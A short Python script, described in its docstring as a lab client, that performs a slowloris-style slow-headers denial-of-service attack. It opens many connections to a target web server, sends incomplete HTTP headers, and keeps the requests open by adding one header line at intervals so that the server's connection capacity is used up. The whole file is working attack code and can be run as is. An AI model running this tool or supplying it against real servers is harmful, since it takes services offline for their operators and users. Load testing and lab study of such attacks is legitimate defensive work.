#!/usr/bin/env python3
"""A slow-headers client (the shape of `slowloris` and `slowhttptest -H`) for the lab: opens
CONNECTIONS connections from SOURCE to TARGET:PORT, sends each the first lines of an HTTP
request, then one more header line on each every INTERVAL seconds, never ending the headers;
closes them all SECONDS after the last one opened and prints "held N" (the connections it
opened).

usage: slow_headers.py SOURCE TARGET PORT CONNECTIONS INTERVAL SECONDS
"""
import socket, sys, time

src, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
count, interval, seconds = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
held = []
for i in range(count):
    try:
        s = socket.create_connection((target, port), timeout=3, source_address=(src, 0))
        s.sendall(b"GET /?%d HTTP/1.1\r\nHost: %s\r\n" % (i, target.encode()))
        held.append(s)
    except OSError:
        pass
    # One connection at a time, as the tools open theirs, without overrunning a small
    # server's listen queue.
    time.sleep(0.02)
# Every connection is held SECONDS, however long opening them took.
deadline = time.monotonic() + seconds
line = 0
while time.monotonic() + interval < deadline:
    time.sleep(interval)
    line += 1
    for s in held:
        try:
            s.sendall(b"X-a-%d: b\r\n" % line)
        except OSError:
            pass
time.sleep(max(0.0, deadline - time.monotonic()))
for s in held:
    s.close()
print("held", len(held))
